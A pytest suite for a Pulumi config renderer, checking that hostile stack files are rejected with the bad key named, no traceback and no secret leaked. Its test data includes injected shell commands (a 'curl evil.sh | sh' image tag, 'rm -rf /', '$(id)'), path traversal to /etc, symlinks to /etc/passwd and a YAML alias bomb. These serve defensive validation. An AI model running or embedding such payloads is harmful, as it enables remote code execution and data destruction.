"""Hostile and broken stack configs through the whole render: exit 2, the key path named, nothing
written, no traceback, and no planted secret anywhere in what the render prints or writes."""

import copy
import os

import pytest
import yaml

import elastic_inference_tools.render.engine as engine
from elastic_inference_tools.render.cli import main
from tests.conftest import ROOT, link_program

DEV = yaml.safe_load(open(os.path.join(ROOT, "Pulumi.dev.yaml")))["config"]
PLANTED = "PLANTED-SECRET-7f3c9a"
DELETE = object()
P = "elastic-inference:"
GPT = {"model": {"path": "models/gpt"}, "ingress": {"host": "bert.dev.example.com", "path": "/"}}


def mutate(**edits):
    config = copy.deepcopy(DEV)
    for path, value in edits.items():
        *parents, leaf = path.split("/")
        node = config
        for key in parents:
            node = node.setdefault(key, {})
        if value is DELETE:
            del node[leaf]
        else:
            node[leaf] = value
    return config


def many_models(count):
    bert = DEV[P + "services"]["bert"]
    return {f"m{i:03d}": {**bert, "model": {"path": f"team-{i:03d}/models/model-number-{i:03d}"},
                          "ingress": {"host": f"m{i:03d}.dev.example.com", "path": "/"}} for i in range(count)}


SVC = P + "services/bert"
CASES = [
    # (id, config, the key path the error must name)
    ("cluster-id-int", mutate(**{P + "cluster/id": 12345}), "cluster.id"),
    ("cluster-id-empty", mutate(**{P + "cluster/id": ""}), "cluster.id"),
    ("k8s-version-junk", mutate(**{P + "cluster/kubernetesVersion": "banana"}), "cluster.kubernetesVersion"),
    ("vswitches-not-a-list", mutate(**{P + "cluster/vswitchIds": "vsw-a,vsw-b"}), "cluster.vswitchIds"),
    ("bucket-empty", mutate(**{P + "modelStore/bucket": ""}), "modelStore.bucket"),
    ("bucket-uppercase", mutate(**{P + "modelStore/bucket": "Acme_Models"}), "modelStore.bucket"),
    ("bucket-shell", mutate(**{P + "modelStore/bucket": "models; rm -rf /"}), "modelStore.bucket"),
    ("encryption-unknown", mutate(**{P + "modelStore/encryption": "ROT13"}), "modelStore.encryption"),
    ("access-public", mutate(**{P + "modelStore/access": "public"}), "modelStore.access"),
    ("pasted-secret-unknown-key", mutate(**{P + "modelStore/accessKeySecret": PLANTED}), "modelStore.accessKeySecret"),
    ("pasted-access-key-id", mutate(**{P + "modelStore/bucket": "LTAI5tPLANTEDSECRET7f3c9a"}), "modelStore.bucket"),
    ("pasted-plain-provider-key", mutate(**{"alicloud:secretKey": PLANTED}), "alicloud:secretKey"),
    ("pasted-plain-kubeconfig", mutate(**{"kubernetes:kubeconfig": f"apiVersion: v1\nusers:\n- user: {{token: {PLANTED}}}"}), "kubernetes:kubeconfig"),
    ("unknown-top-level", mutate(**{P + "secrets": {"token": PLANTED}}), "secrets"),
    ("no-services", mutate(**{P + "services": {}}), "services"),
    ("min-replicas-negative", mutate(**{SVC + "/autoscaling/minReplicas": -1}), "services.bert.autoscaling.minReplicas"),
    ("max-replicas-huge", mutate(**{SVC + "/autoscaling/maxReplicas": 10**9}), "services.bert.autoscaling.maxReplicas"),
    ("max-below-min", mutate(**{SVC + "/autoscaling/minReplicas": 3, SVC + "/autoscaling/maxReplicas": 2}), "services.bert.autoscaling.maxReplicas"),
    ("target-qps-zero", mutate(**{SVC + "/autoscaling/targetQpsPerReplica": 0}), "services.bert.autoscaling.targetQpsPerReplica"),
    ("target-qps-text", mutate(**{SVC + "/autoscaling/targetQpsPerReplica": "ten"}), "services.bert.autoscaling.targetQpsPerReplica"),
    ("service-name-invalid", mutate(**{P + "services/Bert!": DEV[P + "services"]["bert"]}), "services.Bert!"),
    # A long opaque key may be a pasted token: named, but not shown.
    ("service-name-too-long", mutate(**{P + "services/" + "b" * 80: DEV[P + "services"]["bert"]}), "services.<a key not shown>"),
    ("image-shell-semicolon", mutate(**{SVC + "/image": "tensorflow/serving:2.14.1; curl evil.sh | sh"}), "services.bert.image"),
    ("image-command-substitution", mutate(**{SVC + "/image": "tensorflow/serving:$(id)"}), "services.bert.image"),
    ("image-newline", mutate(**{SVC + "/image": "tensorflow/serving:2.14.1\nrm"}), "services.bert.image"),
    ("host-path-traversal", mutate(**{SVC + "/ingress/host": "evil.example.com/../admin"}), "services.bert.ingress.host"),
    ("host-wildcard", mutate(**{SVC + "/ingress/host": "*.example.com"}), "services.bert.ingress.host"),
    ("host-injection", mutate(**{SVC + "/ingress/host": 'a.example.com"; drop'}), "services.bert.ingress.host"),
    ("path-no-slash", mutate(**{SVC + "/ingress/path": "api"}), "services.bert.ingress.path"),
    ("path-nginx-injection", mutate(**{SVC + "/ingress/path": "/x; return 200"}), "services.bert.ingress.path"),
    ("duplicate-host-path", mutate(**{P + "services/gpt": GPT}), "services.gpt.ingress.path"),
    ("model-path-dotdot", mutate(**{SVC + "/model/path": "../other-team/models"}), "services.bert.model.path"),
    ("model-path-absolute", mutate(**{SVC + "/model/path": "/etc"}), "services.bert.model.path"),
    ("version-policy-junk", mutate(**{SVC + "/model/versionPolicy": "specific:abc"}), "services.bert.model.versionPolicy"),
    ("gpu-negative", mutate(**{SVC + "/resources/gpu": -1}), "services.bert.resources.gpu"),
    ("cpu-junk", mutate(**{SVC + "/resources/cpu": "lots"}), "services.bert.resources.cpu"),
    ("memory-shell", mutate(**{SVC + "/resources/memory": "1Gi; rm -rf /"}), "services.bert.resources.memory"),
    ("placement-unknown", mutate(**{SVC + "/placement/mode": "moon"}), "services.bert.placement.mode"),
    ("gpu-spec-without-gpu", mutate(**{SVC + "/placement/eciInstanceTypes": ["ecs.gn6i-c4g1.xlarge"]}), "services.bert.resources.gpu"),
    ("namespace-space", mutate(**{SVC + "/namespace": "kube system"}), "services.bert.namespace"),
    ("namespace-empty", mutate(**{SVC + "/namespace": ""}), "services.bert.namespace"),
    ("tls-secret-invalid", mutate(**{SVC + "/ingress/tlsSecret": "My Secret"}), "services.bert.ingress.tlsSecret"),
    ("node-pool-negative", mutate(**{P + "nodePool": {"maxSize": -5, "instanceTypes": ["ecs.gn6i-c4g1.xlarge"]}}), "nodePool.maxSize"),
    ("region-injection", mutate(**{"alicloud:region": "cn-beijing; x"}), "alicloud:region"),
    ("namespace-kube-system", mutate(**{SVC + "/namespace": "kube-system"}), "services.bert.namespace"),
    ("host-ip-address", mutate(**{SVC + "/ingress/host": "10.0.0.1"}), "services.bert.ingress.host"),
    ("path-dotdot", mutate(**{SVC + "/ingress/path": "/api/../admin"}), "services.bert.ingress.path"),
    ("upload-dir-outside", mutate(**{P + "modelStore/uploadDir": "../../etc"}), "modelStore.uploadDir"),
    ("upload-dir-absolute", mutate(**{P + "modelStore/uploadDir": "/etc"}), "modelStore.uploadDir"),
    ("ram-policy-too-long", mutate(**{P + "services": many_models(60)}), "services"),
    ("secure-value-where-text-belongs", mutate(**{SVC + "/ingress/host": {"secure": "v1:" + PLANTED}}), "services.bert.ingress.host"),
]


def test_at_least_30_hostile_configs():
    assert len(CASES) >= 30 and len({c[0] for c in CASES}) == len(CASES)


@pytest.fixture
def program(tmp_path):
    return link_program(tmp_path / "program")


def rejected(tmp_path, program, capsys, stack_text):
    (program / "Pulumi.hostile.yaml").write_text(stack_text)
    out = tmp_path / "out"
    code = main(["hostile", "--out", str(out), "--dir", str(program)])
    captured = capsys.readouterr()
    return code, captured.out + captured.err, out


@pytest.mark.parametrize("config, key", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_config_is_rejected_naming_the_key(tmp_path, program, capsys, config, key):
    code, printed, out = rejected(tmp_path, program, capsys, yaml.safe_dump({"config": config}))
    assert code == 2, printed
    assert any(line.startswith(key + ":") for line in printed.splitlines()), printed
    assert "Traceback" not in printed
    assert PLANTED not in printed and "PLANTEDSECRET" not in printed
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".render-")]


def test_two_services_with_one_name_in_two_namespaces(tmp_path, program, capsys):
    text = yaml.safe_dump({"config": DEV})
    service = yaml.safe_dump({"bert": {**DEV[P + "services"]["bert"], "namespace": "other"}}, default_flow_style=False)
    text = text.replace("  elastic-inference:services:\n", "  elastic-inference:services:\n" + "".join("    " + line + "\n" for line in service.splitlines()))
    code, printed, out = rejected(tmp_path, program, capsys, text)
    assert code == 2 and "duplicate key" in printed and not out.exists()


# -- secrets never leak ------------------------------------------------------------------------


def test_planted_secrets_never_leave_the_render(tmp_path, program, capsys, monkeypatch):
    """Secure config values and a cloud-computed access key secret: not in plan.json, manifests, stdout or stderr."""
    real = engine._RecordingMonitor.RegisterResource

    def planting(self, request):
        response = real(self, request)
        if request.type == "alicloud:ram/accessKey:AccessKey":
            response.object.update({"secret": PLANTED + "-ak"})
            response.id = "LTAI" + PLANTED.replace("-", "")
        return response

    monkeypatch.setattr(engine._RecordingMonitor, "RegisterResource", planting)
    config = copy.deepcopy(DEV)
    config["kubernetes:kubeconfig"] = {"secure": "v1:" + PLANTED + "-kubeconfig"}
    config["alicloud:secretKey"] = {"secure": "v1:" + PLANTED + "-secretkey"}
    (program / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": config}))
    out = tmp_path / "out"
    assert main(["dev", "--out", str(out), "--dir", str(program)]) == 0
    captured = capsys.readouterr()
    blobs = {"stdout": captured.out, "stderr": captured.err}
    blobs.update({str(p.relative_to(out)): p.read_text() for p in out.rglob("*") if p.is_file()})
    for where, blob in blobs.items():
        assert PLANTED not in blob and PLANTED.replace("-", "") not in blob, where
    secret = yaml.safe_load((out / "manifests" / "secret_default_bert-oss-credentials.yaml").read_text())
    # The planted key reached the Secret (its keys are known now) and was redacted there.
    assert secret["stringData"] == {"akId": "[secret]", "akSecret": "[secret]"}


def test_diff_never_shows_planted_secrets(tmp_path, program, capsys):
    from elastic_inference_tools.render.diff import diff_plans, load_plans, to_json, to_markdown

    renders = {}
    for side in ("one", "two"):
        config = copy.deepcopy(DEV)
        config["kubernetes:kubeconfig"] = {"secure": f"v1:{PLANTED}-{side}"}
        (program / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": config}))
        renders[side] = tmp_path / side / "dev"
        assert main(["dev", "--out", str(renders[side]), "--dir", str(program)]) == 0
    capsys.readouterr()
    diffs = diff_plans(load_plans(str(renders["one"])), load_plans(str(renders["two"])))
    text = to_markdown(diffs) + repr(to_json(diffs))
    assert "kubernetes:kubeconfig" in text and PLANTED not in text


# -- issue "Hardening": stack files that used to crash the render or echo what they hold ------------------

BASE_TEXT = open(os.path.join(ROOT, "Pulumi.dev.yaml")).read()
SECRETISH = "LTAI5tPLANTEDSECRET7f3c9a"


def _text(old, new):
    assert old in BASE_TEXT
    return BASE_TEXT.replace(old, new)


RAW = [
    # (id, stack file bytes, what the one-line error must say)
    ("not-utf-8", b"config:\n  alicloud:region: \xff\xfe\n", "not UTF-8 text"),
    ("section-as-text", _text("  elastic-inference:modelStore:\n    bucket: acme-models-dev",
                              f"  elastic-inference:modelStore: {SECRETISH}\n  x:\n    bucket: acme-models-dev").encode(),
     "modelStore: must be a mapping"),
    ("section-as-list", _text("  elastic-inference:cluster:\n", f"  elastic-inference:cluster: [{SECRETISH}]\n  z:\n").encode(),
     "cluster: must be a mapping"),
    ("nested-too-deep", ("config:\n  elastic-inference:cluster: " + "[" * 5000 + "]" * 5000 + "\n").encode(), "nested too deeply"),
    ("non-text-key", _text("    bucket: acme-models-dev", "    1: x\n    bucket: acme-models-dev").encode(), "a key is not text"),
    ("yaml-date", _text("    bucket: acme-models-dev", "    bucket: 2024-01-01").encode(), "a YAML date"),
    ("yaml-binary", _text("    bucket: acme-models-dev", "    bucket: !!binary aGVsbG8=").encode(), "!!binary"),
    ("yaml-inf", _text("targetQpsPerReplica: 10", "targetQpsPerReplica: .inf").encode(), ".inf and .nan"),
    ("alias-bomb", ("config:\n  elastic-inference:services:\n    a: &a [x,x,x,x,x,x,x,x,x,x]\n"
                    + "".join(f"    {n}: &{n} [{', '.join(['*' + p] * 10)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))).encode(),
     "expands to more than"),
    ("secret-in-host", _text("bert.dev.example.com", SECRETISH.lower() + ".example.com:1").encode(), "services.bert.ingress.host"),
    ("secret-in-image", _text("tensorflow/serving:2.14.1", SECRETISH + " x").encode(), "services.bert.image"),
    ("secret-as-a-key", _text("    bucket: acme-models-dev", f"    bucket: acme-models-dev\n    {SECRETISH}: 1").encode(),
     "modelStore.<a key not shown>"),
    ("secret-in-tls", _text("        path: /", f"        path: /\n        tlsSecret: '{SECRETISH} x'").encode(), "tlsSecret"),
    ("namespace-typo", _text("  alicloud:region: cn-beijing", "  alicloud:region: cn-beijing\n  elastic-inferance:services: x").encode(),
     "did you mean 'elastic-inference:'"),
    ("provider-key-typo", _text("alicloud:region", "alicloud:regoin").encode(), "did you mean 'alicloud:region'"),
    ("dedented-ingress", _text("      ingress:\n        host", "    ingress:\n        host").encode(), "indented one level too little"),
]


@pytest.mark.parametrize("content, message", [c[1:] for c in RAW], ids=[c[0] for c in RAW])
def test_hostile_stack_file_exits_2_without_traceback_or_echo(tmp_path, program, capsys, content, message):
    (program / "Pulumi.hostile.yaml").write_bytes(content)
    out = tmp_path / "out"
    code = main(["hostile", "--out", str(out), "--dir", str(program)])
    printed = "".join(capsys.readouterr())
    assert code == 2 and message in printed, printed
    assert "Traceback" not in printed and "PLANTED" not in printed.upper()
    assert not out.exists()


def test_a_directory_named_like_a_stack_file_and_a_bad_stack_do_not_stop_all(tmp_path, program, capsys):
    (program / "Pulumi.dir.yaml").mkdir()
    (program / "Pulumi.bad.yaml").write_bytes(b"config: [\n")
    (program / "Pulumi.dev.yaml").write_text(BASE_TEXT)
    code = main(["--all", "--out", str(tmp_path / "out"), "--dir", str(program)])
    printed = "".join(capsys.readouterr())
    assert code == 2 and "is a directory" in printed and "not valid YAML" in printed and "Traceback" not in printed
    assert (tmp_path / "out" / "dev" / "plan.json").exists()


@pytest.mark.parametrize("name", ["..", ".", "a/b", "x" * 101, "sp ace"])
def test_stack_names_follow_pulumis_rules(tmp_path, program, capsys, name):
    assert main([name, "--out", str(tmp_path / "out"), "--dir", str(program)]) == 2
    assert "stack name" in capsys.readouterr().err


def test_a_stack_file_named_dotdot_never_removes_the_checkout(tmp_path, program, capsys):
    (program / "Pulumi.dev.yaml").write_text(BASE_TEXT)
    (program / "Pulumi....yaml").write_text(BASE_TEXT)  # stack ".."
    out = tmp_path / "build"
    keep = tmp_path / "precious.txt"
    keep.write_text("the checkout")
    code = main(["--all", "--out", str(out), "--dir", str(program)])
    assert code == 2 and keep.exists() and (out / "dev" / "plan.json").exists()


def test_the_render_never_replaces_a_directory_it_did_not_write(tmp_path, program, capsys):
    (program / "Pulumi.dev.yaml").write_text(BASE_TEXT)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me")
    assert main(["dev", "--out", str(mine), "--dir", str(program)]) == 2
    assert "is not a render output" in capsys.readouterr().err and (mine / "notes.txt").read_text() == "keep me"
    out = tmp_path / "out"
    assert main(["dev", "--out", str(out), "--dir", str(program)]) == 0
    assert (out / ".elastic-inference-render").exists()
    assert main(["dev", "--out", str(out), "--dir", str(program)]) == 0  # its own output: replaced


def _upload_case(program, kind):
    models = program / "models"
    models.mkdir()
    (models / "ok.pb").write_bytes(b"pb")
    if kind == "link-outside":
        (models / "passwd").symlink_to("/etc/passwd")
    elif kind == "dangling":
        (models / "gone").symlink_to(models / "nowhere")
    elif kind == "loop":
        (models / "loop").symlink_to(models / "loop")
    elif kind == "fifo":
        os.mkfifo(models / "pipe")
    elif kind == "device-link":
        (models / "zero").symlink_to("/dev/zero")
    elif kind == "dir-link":
        (models / "etc").symlink_to("/etc")


@pytest.mark.parametrize("kind", ["link-outside", "dangling", "loop", "fifo", "device-link", "dir-link"])
def test_upload_dir_uploads_regular_files_only(tmp_path, capsys, kind):
    program = link_program(tmp_path / "program")
    _upload_case(program, kind)
    (program / "Pulumi.up.yaml").write_text(yaml.safe_dump({"config": mutate(**{P + "modelStore/uploadDir": "models"})}))
    code = main(["up", "--out", str(tmp_path / "out"), "--dir", str(program)])
    printed = "".join(capsys.readouterr())
    assert code == 2 and "modelStore.uploadDir: only regular files are uploaded" in printed, printed
    assert "Traceback" not in printed and not (tmp_path / "out").exists()


@pytest.mark.parametrize("edits, key", [
    ({P + "modelStore/uploadDir": "."}, "modelStore.uploadDir"),
    ({P + "modelStore/create": False, P + "modelStore/uploadDir": "models"}, "modelStore.uploadDir"),
    ({P + "modelStore/create": False, P + "modelStore/versioning": True}, "modelStore.versioning"),
    ({P + "modelStore/create": False, P + "modelStore/protect": False}, "modelStore.protect"),
])
def test_what_an_adopted_bucket_or_the_project_root_would_silently_get_is_refused(tmp_path, capsys, edits, key):
    program = link_program(tmp_path / "program")
    (program / "models").mkdir()
    (program / "Pulumi.up.yaml").write_text(yaml.safe_dump({"config": mutate(**edits)}))
    assert main(["up", "--out", str(tmp_path / "out"), "--dir", str(program)]) == 2
    assert any(line.startswith(key + ":") for line in capsys.readouterr().err.splitlines())
